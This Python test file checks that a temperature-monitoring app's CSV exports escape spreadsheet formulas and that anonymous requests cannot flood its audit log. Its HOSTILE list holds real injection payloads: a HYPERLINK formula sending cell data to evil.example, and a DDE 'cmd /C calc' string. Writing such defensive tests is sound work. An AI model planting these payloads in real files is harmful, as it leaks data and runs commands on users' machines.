"""CSV/formula injection: the device export, the daily record and the audit CSV hand a
spreadsheet data, never a formula; negative temperatures stay numbers. And anonymous 401s
cannot flood the audit log with long, attacker-chosen targets."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from core.csv_safe import formula_safe, write_csv
from dashboards.daily_record import AlertNote, DayRecord, DeviceRecord, SiteRecord
from dashboards.record_export import record_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _rows(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def _no_formula(cell: str) -> bool:
    return not cell.lstrip(" ").startswith(TRIGGERS)


@given(st.text(max_size=60))
def test_a_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
    safe = formula_safe(text)
    assert safe in (text, "'" + text)
    numeric = safe == text and text.lstrip("-").replace(",", "", 1).isdigit()
    assert _no_formula(safe) or numeric


@given(st.floats(allow_nan=False, allow_infinity=False, width=32), st.integers())
def test_numbers_stay_numbers(x: float, n: int) -> None:
    assert formula_safe(x) == str(x)
    assert formula_safe(n) == str(n)
    assert formula_safe(f"{x:.1f}".replace(".", ",")) == f"{x:.1f}".replace(".", ",")


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=5), max_size=5))
def test_written_rows_read_back_as_the_safe_cells(rows: list[list[str]]) -> None:
    text = write_csv(rows, delimiter=";")
    back = _rows(text, ";")
    assert back == [[formula_safe(c) for c in row] for row in rows]


def test_device_export_escapes_names_places_and_notes(client: TestClient) -> None:
    for i, text in enumerate(HOSTILE):
        r = client.post(
            "/api/v1/devices",
            json={"id": f"d{i}", "type": "freezer", "name": text, "place": text, "notes": text},
        )
        assert r.status_code == 201, r.text
    exported = client.get("/api/v1/devices/export")
    assert exported.status_code == 200
    rows = _rows(exported.content.decode("utf-8"), ";")
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    for row in body:
        cells = dict(zip(header, row, strict=True))
        for column in ("name", "place", "notes"):
            assert _no_formula(cells[column]), (column, cells[column])
            assert cells[column].startswith("'")


def test_daily_record_escapes_text_and_keeps_negative_temperatures() -> None:
    started = datetime(2026, 1, 5, 3, 0, tzinfo=UTC)
    alert = AlertNote(1, "too_warm", "critical", "resolved", started, None, "=evil()", started)
    day = DayRecord(date(2026, 1, 5), 24.0, 10, -21.5, -17.0, -19.25, 0.0, None, (alert,))
    record = SiteRecord(
        "s1",
        "Kök",
        "2026-01",
        started,
        (DeviceRecord("f1", "@Frys 1", "-Källare", "freezer", -18.0, (day,)),),
    )
    rows = _rows(record_csv(record).decode("utf-8"), ";")
    (row,) = rows[1:]
    assert row[2] == "'@Frys 1"
    assert row[4] == "'-Källare"
    assert row[5] == "-18,0"  # the limit: a number, no quote
    assert (row[7], row[8], row[9]) == ("-21,5", "-17,0", "-19,2")
    assert row[13].startswith("'=evil()")


def test_audit_csv_escapes_targets_and_actors(client: TestClient, platform: Any) -> None:
    platform.audit.record(
        datetime.now(UTC), "@admin", "device.update", "device", "=1+1", details={"x": 1}
    )
    r = client.get("/api/v1/audit", params={"format": "csv"})
    assert r.status_code == 200
    rows = _rows(r.text, ",")
    header = rows[0]
    (row,) = [
        dict(zip(header, x, strict=True))
        for x in rows[1:]
        if x[header.index("action")] == "device.update"
    ]
    assert row["target_id"] == "'=1+1"
    assert row["actor"] == "'@admin"


def test_anonymous_401s_cannot_flood_the_audit_log(platform: Any) -> None:
    from gateway.app import create_app

    app = create_app(platform)
    before = len(platform.audit.entries(limit=100_000))
    with TestClient(app) as anonymous:
        long_target = "A" * 60_000  # the client refuses longer URLs
        r = anonymous.get(f"/api/v1/devices/{long_target}")
        assert r.status_code == 401
        for i in range(200):
            assert anonymous.get(f"/api/v1/devices/probe-{i}").status_code == 401
    added = platform.audit.entries(limit=100_000)[before:]
    assert 1 <= len(added) <= 5, len(added)
    assert all(len(e.target_id or "") <= 100 for e in added)
    assert all(len(e.details or "") <= 2000 for e in added)
    assert platform.audit.verify()
